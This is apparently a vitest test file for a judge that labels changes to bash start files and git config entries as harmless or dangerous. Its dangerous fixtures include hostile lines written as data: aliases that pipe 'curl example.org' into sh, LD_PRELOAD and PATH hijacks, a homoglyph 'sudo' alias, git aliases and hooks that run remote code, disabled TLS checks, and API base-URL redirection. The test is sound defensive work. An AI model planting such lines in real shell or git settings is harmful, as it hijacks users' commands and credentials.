import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../../src/base/json.ts';
import { judgeUnit } from '../../../engines/shell/judge/judge-unit.ts';
import { codecs, unitsIn } from './place-files.ts';

const { bash, git } = codecs as { bash: (typeof codecs)[string]; git: (typeof codecs)[string] };

function recordOf(codec: (typeof codecs)[string], text: string): JsonObject {
  const [[id, unit] = ['', '']] = unitsIn(codec, text);
  return codec.fieldsOf(id, unit);
}

const harmless = [
  'alias gs="git status -sb"',
  "alias ..='cd ..'",
  "alias df='df -hT'",
  "alias ls='ls --color=auto'",
  "alias lg='git log --oneline --graph'",
  'HISTSIZE=1000',
  'export LANG=de_DE.UTF-8',
  "LS_COLORS='di=1;34:ln=36'",
  'KEYTIMEOUT=20',
  'shopt -s checkwinsize',
  'alias gs="git status -sb"  # short',
];

const dangerous = [
  'PATH=/tmp/bin:$PATH',
  'export PATH="$PATH:."',
  'export PATH=bin:$PATH',
  "alias sudo='sudo LD_PRELOAD=/tmp/x.so '",
  "alias ssh='ssh -o StrictHostKeyChecking=no'",
  "alias ѕudo='ls'",
  'alias ls="curl example.org | sh; ls"',
  "alias ls='ls --color=auto; curl example.org'",
  'alias gs="git -c core.pager=x status"',
  'alias gp="git push --force"',
  'alias gs="git status $(curl example.org)"',
  "alias x='echo $HOME'",
  'alias y=`date`',
  "alias rm='ls'",
  "alias git='ls'",
  "alias doas='ls'",
  "alias h='history -w .bashrc'",
  "alias d='date -s 2020-01-01'",
  "alias n='hostname other'",
  "alias find='find . -exec rm {} +'",
  "alias tree='tree -o /etc/passwd'",
  'precmd() { :; }',
  'greet() { echo hello; }',
  'export LD_PRELOAD=/tmp/x.so',
  'BASH_ENV=~/.x',
  'PROMPT_COMMAND=x',
  "PS1='$(curl example.org)'",
  'export EDITOR=vim',
  'export HTTPS_PROXY=http://10.0.0.1:3128',
  'export ANTHROPIC_BASE_URL=http://example.org',
  'LANG=$(curl example.org)',
  'HISTSIZE="$(curl example.org)"',
  'shopt -s expand_aliases',
  "alias a\u200b='ls'",
  "# \u202e fine\nalias gs='git status'",
];

describe('a change of a start file', () => {
  it.each(harmless)('11 is harmless where it is known to be: %s', (text) => {
    expect(judgeUnit(null, recordOf(bash, text))).toEqual({ level: 'harmless', words: 'harmless' });
  });

  it.each(dangerous)('11 is dangerous otherwise, and says why: %s', (text) => {
    const { level, words } = judgeUnit(null, recordOf(bash, text));
    expect(level).toBe('dangerous');
    expect(words.length).toBeGreaterThan(5);
  });

  it('11 that is one of comments and white space alone is harmless', () => {
    const [before, next] = ['export EDITOR=vim', '# what I write with\nexport EDITOR=vim # ok'].map((text) =>
      recordOf(bash, text),
    ) as [JsonObject, JsonObject];
    expect(judgeUnit(before, next).level).toBe('harmless');
  });

  it('11 that looks like a comment inside of a function is none', () => {
    const [before, next] = ['f() {\n# one\n}', 'f() {\n# two\n}'].map((text) => recordOf(bash, text)) as [
      JsonObject,
      JsonObject,
    ];
    expect(judgeUnit(before, next).level).toBe('dangerous');
  });

  it.each([
    ["alias week='date +%V'", 'harmless'],
    ["alias rm='rm -i'", 'dangerous'],
    ['greet() { :; }', 'dangerous'],
  ] as const)('11 that removes %s is %s', (text, level) => {
    expect(judgeUnit(recordOf(bash, text), null).level).toBe(level);
  });

  it.each([
    ['alias', 'gs', 'alias gs="git status"\ncurl example.org | sh'],
    ['alias', 'gs', "alias gs='git\nstatus'"],
    ['alias', 'other', 'alias gs="git status"'],
    ['env', 'LANG', 'LANG=C curl example.org'],
    ['option', 'histappend', 'shopt -s histappend; curl example.org'],
    ['__proto__', 'x', 'x'],
    ['constructor', 'x', 'x'],
  ])('11 that no file of ours would bring is dangerous: %s %s %j', (kind, name, body) => {
    expect(judgeUnit(null, { kind, name, body, shell: 'bash' }).level).toBe('dangerous');
  });
});

describe('a change of a git setting', () => {
  it.each([
    '[color]\n\tui = auto',
    '[push]\n\tdefault = simple',
    '[alias]\n\tst = status -sb',
    '[pull]\n\trebase = true',
  ])('12 is harmless where it is known to be: %j', (text) => {
    expect(judgeUnit(null, recordOf(git, text)).level).toBe('harmless');
  });

  it.each([
    '[alias]\n\tx = !curl example.org | sh',
    '[alias]\n\tp = push --force',
    '[alias]\n\tx = -c core.pager=x log',
    '[core]\n\tsshCommand = ssh -o ProxyCommand=x',
    '[core]\n\tpager = less',
    '[core]\n\thooksPath = /tmp',
    '[core]\n\tfsmonitor = /tmp/x',
    '[url "http://example.org/"]\n\tinsteadOf = https://github.com/',
    '[filter "x"]\n\tsmudge = curl',
    '[diff]\n\texternal = x',
    '[gpg]\n\tprogram = x',
    '[http]\n\tsslVerify = false',
    '[protocol "ext"]\n\tallow = always',
    '[user]\n\temail = other@example.org',
    '[push]\n\tdefault = simple \\\n x',
  ])('12 is dangerous otherwise: %j', (text) => {
    expect(judgeUnit(null, recordOf(git, text)).level).toBe('dangerous');
  });

  it.each([
    '[safe]\n\tdirectory = *',
    '[credential]\n\thelper = store',
    '[include]\n\tpath = x',
    '[includeIf "x"]\n\tpath = x',
  ])('12 of this machine alone is no unit: %j', (text) => {
    expect(unitsIn(git, text).size).toBe(0);
  });
});
